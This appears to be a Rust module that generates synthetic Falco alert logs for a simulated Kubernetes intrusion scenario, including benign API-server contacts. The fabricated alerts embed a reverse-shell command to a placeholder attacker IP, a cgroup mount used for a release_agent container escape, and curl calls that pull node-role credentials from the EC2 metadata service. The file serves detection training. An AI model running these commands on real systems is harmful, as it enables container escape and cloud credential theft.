//! Falco's alerts from the production cluster's nodes, as Falco writes them with
//! `json_output: true` (one alert a line; Falco reports only what its rules match, so there is
//! no other background than benign matches).
//!
//! Story 3, step 4 (19:22): on the story's node, Falco's stable rule `Terminal shell in
//! container` fires for the shell opened in the intruder's pod.
//!
//! Story 4, step 1 (20:05–20:11): on the orders node, the orders API's container (privileged,
//! its web app exploitable) redirects a shell's standard streams to a connection to the
//! attacker (`Redirect STDOUT/STDIN to Network Connection in Container`), mounts a cgroup
//! hierarchy and writes its `release_agent` to run a command on the host (`Mount Launched in
//! Privileged Container`, `Detect release_agent File Container Escapes`), and reads the node
//! role's credentials from the instance metadata service (`Contact EC2 Instance Metadata
//! Service From Container`). The mount and metadata rules are of Falco's incubating set, which
//! Acme loads too.
//!
//! Around them, the day's benign matches: `Contact K8S API Server From Container` for the
//! orders worker, whose leader election talks to the API server from an image the rule does
//! not know.

use serde_json::{json, Map, Value};

use super::day::{at, ts_fraction, Day, ALNUM, LOWER_HEX};
use super::kubernetes::{ROGUE_CONTAINER, ROGUE_IMAGE};
use super::{
    Node, ATTACKER_IP, DEV, LISTENER_PORT, NODE, NODE_ROLE, ORDERS_NODE, ORDERS_POD, ROGUE_POD,
    SYSTEM_NAMESPACE,
};

pub const SHELL_RULE: &str = "Terminal shell in container";
const API_RULE: &str = "Contact K8S API Server From Container";
pub const REDIRECT_RULE: &str = "Redirect STDOUT/STDIN to Network Connection in Container";
pub const MOUNT_RULE: &str = "Mount Launched in Privileged Container";
pub const RELEASE_AGENT_RULE: &str = "Detect release_agent File Container Escapes";
pub const METADATA_RULE: &str = "Contact EC2 Instance Metadata Service From Container";
/// The cluster's `kubernetes` service, as a pod reaches it.
const API_SERVICE: &str = "172.20.0.1";
/// The instance metadata service, as an instance (or a pod, with a hop limit of 2) reaches it.
const METADATA_SERVICE: &str = "169.254.169.254";
/// The orders API's pod address on the orders node, and its container's name.
const ORDERS_POD_IP: &str = "10.40.7.143";
const ORDERS_CONTAINER: &str = "orders-api";
/// Every capability a privileged container holds, as Falco prints `thread.cap_effective`.
const ALL_CAPABILITIES: &str = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL \
     CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST CAP_NET_ADMIN \
     CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE \
     CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG \
     CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG \
     CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE";

/// One alert: the rule, its priority and tags, the message it prints, and the fields the
/// message names (each with the label the message shows it under).
struct Alert<'a> {
    node: &'a Node,
    time: i64,
    rule: &'static str,
    priority: &'static str,
    tags: &'static [&'static str],
    message: &'static str,
    fields: Vec<Field>,
}

/// A field of the output: its label in the message, its name, its value.
type Field = (&'static str, &'static str, Value);

impl Alert<'_> {
    fn emit(self, day: &mut Day, out: &mut Vec<Value>) {
        let nanos = day.nanos();
        let time = ts_fraction(self.time, nanos, 9);
        let mut fields = Map::new();
        fields.insert("evt.time".into(), json!(self.time * 1_000_000_000 + i64::from(nanos)));
        let mut text = String::new();
        for (label, key, value) in self.fields {
            let shown = value.as_str().map_or_else(|| value.to_string(), str::to_string);
            text.push_str(&format!(" {label}={shown}"));
            fields.insert(key.into(), value);
        }
        out.push(json!({
            "hostname": self.node.name,
            "output": format!("{}: {} {} |{text}", &time[11..time.len() - 1], self.priority, self.message),
            "output_fields": fields,
            "priority": self.priority,
            "rule": self.rule,
            "source": "syscall",
            "tags": self.tags,
            "time": time,
        }));
    }
}

/// The fields Falco's `%container.info` adds for a container of a pod.
fn container(id: &str, image: &str, name: &str, namespace: &str, pod: &str) -> Vec<Field> {
    let (repository, tag) = image.rsplit_once(':').unwrap_or((image, "latest"));
    vec![
        ("container_id", "container.id", id.into()),
        ("container_name", "container.name", name.into()),
        ("container_image_repository", "container.image.repository", repository.into()),
        ("container_image_tag", "container.image.tag", tag.into()),
        ("k8s_pod_name", "k8s.pod.name", pod.into()),
        ("k8s_ns_name", "k8s.ns.name", namespace.into()),
    ]
}

/// The nodes' alerts of the day, in time order; story 4's drawn from `story_4`.
pub fn alerts(day: &mut Day, story_4: &mut Day) -> Vec<Value> {
    let mut out = Vec::new();
    story(day, &mut out);
    api_contacts(day, &mut out);
    escape(story_4, &mut out);
    out.sort_by(|a, b| a["time"].as_str().cmp(&b["time"].as_str()));
    out
}

/// Story 3, step 4: the shell `kubectl exec` opened in the intruder's pod.
fn story(day: &mut Day, out: &mut Vec<Value>) {
    let mut fields = vec![
        ("evt_type", "evt.type", json!("execve")),
        ("user", "user.name", json!("root")),
        ("user_uid", "user.uid", json!(0)),
        ("user_loginuid", "user.loginuid", json!(-1)),
        ("process", "proc.name", json!("sh")),
        ("proc_exepath", "proc.exepath", json!("/bin/busybox")),
        ("parent", "proc.pname", json!("runc")),
        ("command", "proc.cmdline", json!("sh")),
        ("terminal", "proc.tty", json!(34816)),
        ("exe_flags", "evt.arg.flags", json!("EXE_WRITABLE|EXE_LOWER_LAYER")),
    ];
    let id = day.rid("", 12, LOWER_HEX);
    fields.extend(container(&id, ROGUE_IMAGE, ROGUE_CONTAINER, SYSTEM_NAMESPACE, ROGUE_POD));
    Alert {
        node: &NODE,
        time: at(19, 22, 6),
        rule: SHELL_RULE,
        priority: "Notice",
        tags: &["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
        message: "A shell was spawned in a container with an attached terminal",
        fields,
    }
    .emit(day, out);
}

/// The fields of a process of the attacker's in the orders API's container, with Falco's labels:
/// `name` (at `exe`) run as `command` by `parent`, as root, without a terminal.
fn attacker_process(name: &str, exe: &str, parent: &str, command: &str) -> Vec<Field> {
    vec![
        ("user", "user.name", json!("root")),
        ("user_uid", "user.uid", json!(0)),
        ("user_loginuid", "user.loginuid", json!(-1)),
        ("process", "proc.name", json!(name)),
        ("proc_exepath", "proc.exepath", json!(exe)),
        ("parent", "proc.pname", json!(parent)),
        ("command", "proc.cmdline", json!(command)),
        ("terminal", "proc.tty", json!(0)),
    ]
}

/// A TCP connection from the orders API's pod to `server`:`port`, with Falco's labels.
fn connection(day: &mut Day, server: &str, port: u16) -> Vec<Field> {
    let local = 32768 + day.below(28000);
    vec![
        ("connection", "fd.name", json!(format!("{ORDERS_POD_IP}:{local}->{server}:{port}"))),
        ("lport", "fd.lport", json!(local)),
        ("rport", "fd.rport", json!(port)),
        ("fd_type", "fd.type", json!("ipv4")),
        ("fd_proto", "fd.l4proto", json!("tcp")),
    ]
}

/// Story 4, step 1: the reverse shell, the escape through `release_agent`, the metadata read.
fn escape(day: &mut Day, out: &mut Vec<Value>) {
    let id = day.rid("", 12, LOWER_HEX);
    let image = format!("{DEV}.dkr.ecr.us-east-1.amazonaws.com/orders-api:sha-{}", day.rid("", 7, LOWER_HEX));
    let container = container(&id, &image, ORDERS_CONTAINER, "orders", ORDERS_POD);
    let interactive = ("bash", "/usr/bin/bash", "sh");

    // The web app's command injection runs `sh -c`, which runs bash with its streams on a socket.
    let shell = format!("bash -c bash -i >& /dev/tcp/{ATTACKER_IP}/{LISTENER_PORT} 0>&1");
    let mut fields = vec![
        ("gparent", "proc.aname[2]", json!("node")),
        ("ggparent", "proc.aname[3]", json!("tini")),
        ("gggparent", "proc.aname[4]", json!("containerd-shim")),
        ("fd.sip", "fd.sip", json!(ATTACKER_IP)),
    ];
    fields.extend(connection(day, ATTACKER_IP, LISTENER_PORT));
    fields.push(("evt_type", "evt.type", json!("dup2")));
    fields.extend(attacker_process(interactive.0, interactive.1, interactive.2, &shell));
    fields.extend(container.clone());
    Alert {
        node: &ORDERS_NODE,
        time: at(20, 5, 41),
        rule: REDIRECT_RULE,
        priority: "Notice",
        tags: &["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"],
        message: "Redirect stdout/stdin to network connection",
        fields,
    }
    .emit(day, out);

    let mut fields = vec![("evt_type", "evt.type", json!("execve"))];
    fields.extend(attacker_process(
        "mount",
        "/usr/bin/mount",
        "bash",
        "mount -t cgroup -o rdma cgroup /tmp/cgrp",
    ));
    fields.push(("exe_flags", "evt.arg.flags", json!("EXE_LOWER_LAYER")));
    fields.extend(container.clone());
    Alert {
        node: &ORDERS_NODE,
        time: at(20, 9, 12),
        rule: MOUNT_RULE,
        priority: "Warning",
        tags: &[
            "T1611",
            "cis",
            "container",
            "filesystem",
            "maturity_incubating",
            "mitre_privilege_escalation",
        ],
        message: "Mount was executed inside a privileged container",
        fields,
    }
    .emit(day, out);

    let mut fields = vec![
        ("file", "fd.name", json!("/tmp/cgrp/release_agent")),
        ("cap_effective", "thread.cap_effective", json!(ALL_CAPABILITIES)),
        ("evt_type", "evt.type", json!("openat")),
    ];
    fields.extend(attacker_process(interactive.0, interactive.1, interactive.2, "bash -i"));
    fields.extend(container.clone());
    Alert {
        node: &ORDERS_NODE,
        time: at(20, 9, 31),
        rule: RELEASE_AGENT_RULE,
        priority: "Critical",
        tags: &["T1611", "container", "maturity_stable", "mitre_privilege_escalation", "process"],
        message: "Detect an attempt to exploit a container escape using release_agent file",
        fields,
    }
    .emit(day, out);

    // IMDSv2: a session token first, then the node role's credentials with it.
    let token = format!("{}==", day.rid("AQAEA", 51, ALNUM));
    let base = format!("http://{METADATA_SERVICE}/latest");
    for (t, command) in [
        (at(20, 11, 5), format!("curl -s -X PUT -H X-aws-ec2-metadata-token-ttl-seconds: 21600 {base}/api/token")),
        (
            at(20, 11, 19),
            format!("curl -s -H X-aws-ec2-metadata-token: {token} {base}/meta-data/iam/security-credentials/{NODE_ROLE}"),
        ),
    ] {
        let mut fields = connection(day, METADATA_SERVICE, 80);
        fields.push(("evt_type", "evt.type", json!("connect")));
        fields.extend(attacker_process("curl", "/usr/bin/curl", "bash", &command));
        fields.extend(container.clone());
        Alert {
            node: &ORDERS_NODE,
            time: t,
            rule: METADATA_RULE,
            priority: "Notice",
            tags: &["T1552.005", "aws", "container", "maturity_incubating", "mitre_credential_access", "network"],
            message: "Outbound connection to EC2 instance metadata service",
            fields,
        }
        .emit(day, out);
    }
}

/// The orders worker's leader election, seen as a container contacting the API server.
fn api_contacts(day: &mut Day, out: &mut Vec<Value>) {
    let image = format!("{DEV}.dkr.ecr.us-east-1.amazonaws.com/orders-worker:sha-4e1b7c2");
    // Each pod: its name, its container's id, its address.
    let pods: Vec<(&str, String, String)> =
        ["orders-worker-5b7c9d4f8-m4t9z", "orders-worker-5b7c9d4f8-q8w2n"]
            .into_iter()
            .map(|pod| (pod, day.rid("", 12, LOWER_HEX), format!("10.40.7.{}", 30 + day.below(200))))
            .collect();
    for (t, (pod, id, pod_ip)) in day.spread((6, 0), (22, 0), 3).into_iter().zip(pods.iter().cycle()) {
        let port = 32768 + day.below(28000);
        let mut fields = vec![
            ("connection", "fd.name", json!(format!("{pod_ip}:{port}->{API_SERVICE}:443"))),
            ("lport", "fd.lport", json!(port)),
            ("rport", "fd.rport", json!(443)),
            ("fd_type", "fd.type", json!("ipv4")),
            ("fd_proto", "fd.l4proto", json!("tcp")),
            ("evt_type", "evt.type", json!("connect")),
            ("user", "user.name", json!("root")),
            ("user_uid", "user.uid", json!(0)),
            ("user_loginuid", "user.loginuid", json!(-1)),
            ("process", "proc.name", json!("orders-worker")),
            ("proc_exepath", "proc.exepath", json!("/app/orders-worker")),
            ("parent", "proc.pname", json!("tini")),
            ("command", "proc.cmdline", json!("orders-worker --leader-elect")),
            ("terminal", "proc.tty", json!(0)),
        ];
        fields.extend(container(id, &image, "worker", "orders", pod));
        Alert {
            node: &ORDERS_NODE,
            time: t,
            rule: API_RULE,
            priority: "Notice",
            tags: &["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
            message: "Unexpected connection to K8s API Server from container",
            fields,
        }
        .emit(day, out);
    }
}
